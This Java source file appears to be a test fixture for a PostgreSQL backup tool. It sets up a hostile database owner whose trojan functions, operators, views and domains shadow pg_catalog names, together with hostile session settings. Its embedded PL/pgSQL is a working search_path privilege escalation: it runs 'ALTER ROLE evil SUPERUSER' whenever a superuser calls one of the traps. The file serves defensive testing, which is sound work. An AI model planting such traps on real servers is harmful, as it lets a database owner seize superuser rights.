package digital.vya.backupdb.servers;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * The owner of a database who has a trap of his under every name that SQL of ours can say: functions, aggregates,
 * operators, types and relations of pg_catalog, with the same arguments and with nearer ones, in a schema that his
 * database looks into first. A trap makes him superuser where its caller is one, and tells the server's log who called.
 */
public final class HostileOwner {
    public static final String NAME = "evil";
    public static final String SPRUNG = "SPRUNG";
    private static final Pattern WORD = Pattern.compile("[a-z_][a-z0-9_]+");

    private static final String SHOP = """
            CREATE SCHEMA sales;
            CREATE TABLE sales.customers (id serial PRIMARY KEY, name text NOT NULL);
            CREATE TABLE sales.orders (id serial PRIMARY KEY, customer int NOT NULL REFERENCES sales.customers,
                amount numeric DEFAULT 0 CHECK (amount >= 0), placed timestamptz DEFAULT now());
            CREATE TABLE sales.parted (id int, day date) PARTITION BY RANGE (day);
            CREATE TABLE sales.parted_1 PARTITION OF sales.parted FOR VALUES FROM ('2026-01-01') TO ('2027-01-01');
            CREATE VIEW sales.large AS SELECT * FROM sales.orders WHERE amount > 5;
            CREATE MATERIALIZED VIEW sales.sums AS SELECT customer, sum(amount) FROM sales.orders GROUP BY customer;
            CREATE TABLE public.notes (id int PRIMARY KEY, note text);
            INSERT INTO sales.customers (name) VALUES ('ann'), ('b\\ob''s');
            INSERT INTO sales.orders (customer, amount) SELECT 1 + n % 2, n FROM generate_series(1, 10) n;
            INSERT INTO sales.parted SELECT n, '2026-05-01' FROM generate_series(1, 5) n;
            INSERT INTO public.notes VALUES (1, 'backup');
            """;

    /** A caller that is no superuser cannot make anybody one; that somebody called is told all the same. */
    private static final String BODY = """
            BEGIN
              RAISE LOG '%% %% called by %%', 'SPRUNG', %s, current_user;
              BEGIN EXECUTE 'ALTER ROLE evil SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
              RETURN %s;
            END""";

    /** Whoever sets traps must not step into them. */
    private static final String TRAPS = """
            SET search_path = pg_catalog;
            CREATE TABLE public.words AS SELECT unnest(ARRAY[%1$s]) AS word;
            CREATE FUNCTION public.plant(how text) RETURNS void LANGUAGE plpgsql AS $$
            BEGIN EXECUTE how; EXCEPTION WHEN OTHERS THEN NULL; END $$;
            CREATE FUNCTION public.trap(label text, args text, result text, value text) RETURNS void LANGUAGE plpgsql AS $$
            BEGIN
              PERFORM public.plant(format('CREATE FUNCTION public.%%s(%%s) RETURNS %%s IMMUTABLE LANGUAGE plpgsql AS %%L',
                label, args, result, format(%2$s, quote_literal(label || '(' || args || ')'), value)));
            END $$;
            CREATE TABLE public.signatures AS
              SELECT p.oid, quote_ident(proname) AS name, prokind, p.pronargs,
                     CASE WHEN proretset THEN 'SETOF ' ELSE '' END || format_type(prorettype, NULL) AS result,
                     CASE WHEN proretset OR prorettype = 'void'::regtype THEN '' ELSE 'NULL' END AS value,
                     coalesce((SELECT string_agg(CASE WHEN provariadic <> 0 AND o = pronargs THEN 'VARIADIC ' ELSE '' END
                        || format_type(t, NULL), ', ' ORDER BY o) FROM unnest(proargtypes) WITH ORDINALITY u (t, o)), '') AS args
                FROM pg_proc p JOIN public.words ON word = proname
               WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind IN ('f', 'a');
            INSERT INTO public.signatures
              SELECT DISTINCT 0::oid, name, prokind, n, 'text', 'NULL', array_to_string(array_fill(t, ARRAY[n]), ', ')
                FROM public.signatures, generate_series(1, 4) n, unnest(ARRAY['text', 'name']) t
               WHERE args LIKE '%%"any"%%';
            INSERT INTO public.signatures
              SELECT DISTINCT ON (s.name, s.prokind, t) 0::oid, s.name, s.prokind, s.pronargs, s.result, s.value, t
                FROM public.signatures s JOIN (VALUES (1, 'name'), (1, '"char"'), (1, 'oid'), (2, 'name, text'),
                     (2, 'text, name'), (3, 'name, text, name')) n (n, t) ON n = pronargs
               WHERE NOT EXISTS (SELECT FROM public.signatures e WHERE e.name = s.name AND e.args = t);
            SELECT public.trap(name, args, result, value) FROM public.signatures WHERE prokind = 'f';
            SELECT public.trap('step_' || trim('"' FROM name), concat_ws(', ', 'text', nullif(args, '')), 'text', 'NULL'),
                   public.plant(format('CREATE AGGREGATE public.%%s(%%s) (SFUNC = public.step_%%s, STYPE = text)',
                     name, coalesce(nullif(args, ''), '*'), trim('"' FROM name)))
              FROM public.signatures WHERE prokind = 'a';
            CREATE TABLE public.operations AS
              SELECT oprname, oprleft::regtype::text AS l, oprright::regtype::text AS r, oprresult::regtype::text AS result
                FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprkind = 'b'
                 AND (SELECT count(*) FROM pg_type JOIN public.words ON word = trim('"' FROM typname)
                       WHERE oid IN (oprleft, oprright)) = CASE WHEN oprleft = oprright THEN 1 ELSE 2 END
              UNION SELECT o, l, r, CASE o WHEN '||' THEN 'text' ELSE 'boolean' END
                FROM unnest(ARRAY['=', '<>', '||', '~', '!~', '~~']) o, unnest(ARRAY['name', 'text', '"char"', 'oid']) l,
                     unnest(ARRAY['name', 'text', '"char"', 'oid']) r;
            SELECT public.trap('operation_' || n, concat(l, ', ', r), result, 'NULL'),
                   public.plant(format('CREATE OPERATOR public.%%s (LEFTARG = %%s, RIGHTARG = %%s, FUNCTION = public.operation_%%s)',
                     oprname, l, r, n))
              FROM (SELECT row_number() OVER () AS n, * FROM public.operations) o;
            SELECT public.trap('seen', 'text', 'boolean', 'true');
            SELECT public.plant(format('CREATE VIEW public.%%1$I AS SELECT * FROM pg_catalog.%%1$I WHERE public.seen(%%1$L)', relname))
              FROM pg_class JOIN public.words ON word = relname
             WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v');
            SELECT public.plant(format('CREATE DOMAIN public.%%1$I AS pg_catalog.%%1$I CHECK (public.seen(%%1$L))', typname))
              FROM pg_type JOIN public.words ON word = typname
             WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b';
            """;

    /** What else an owner may decide for the sessions of others. */
    private static final List<String> SETTINGS = List.of(
            "search_path = public, pg_catalog",
            "row_security = on",
            "statement_timeout = '50ms'",
            "lock_timeout = '50ms'",
            "idle_in_transaction_session_timeout = '50ms'",
            "default_transaction_read_only = on",
            "default_transaction_isolation = 'serializable'",
            "standard_conforming_strings = off",
            "quote_all_identifiers = on",
            "transform_null_equals = on",
            "client_min_messages = debug1",
            "DateStyle = 'SQL, DMY'",
            "IntervalStyle = 'sql_standard'",
            "extra_float_digits = -15",
            "bytea_output = 'escape'",
            "client_encoding = 'SJIS'");

    private HostileOwner() {}

    /** A database {@code shop} of his on this server. */
    public static void settle(PostgresServer server) {
        server.psql("postgres", "CREATE ROLE evil; CREATE DATABASE shop OWNER evil;");
        server.psql("shop", "SET SESSION AUTHORIZATION evil;\n" + SHOP + traps());
        settings("DATABASE shop").forEach(sql -> server.psql("postgres", "SET SESSION AUTHORIZATION evil; " + sql));
    }

    /** The same settings where another may put them: on a role, such as the one that makes the backups. */
    public static List<String> settings(String of) {
        return SETTINGS.stream()
                .map(setting -> "ALTER " + of + " SET " + setting + ";")
                .toList();
    }

    private static String traps() {
        String words = words().stream().map(word -> "'" + word + "'").collect(Collectors.joining(", "));
        return TRAPS.formatted(words, "$body$" + BODY + "$body$");
    }

    /** Every word that stands in the product's Java: what of it is a name of the server's gets a trap. */
    private static Set<String> words() {
        Set<String> words = new TreeSet<>();
        try (Stream<Path> sources = Files.walk(Path.of("src/main/java"))) {
            for (Path source : sources.filter(Files::isRegularFile).toList()) {
                WORD.matcher(Files.readString(source))
                        .results()
                        .map(MatchResult::group)
                        .forEach(words::add);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return words;
    }
}
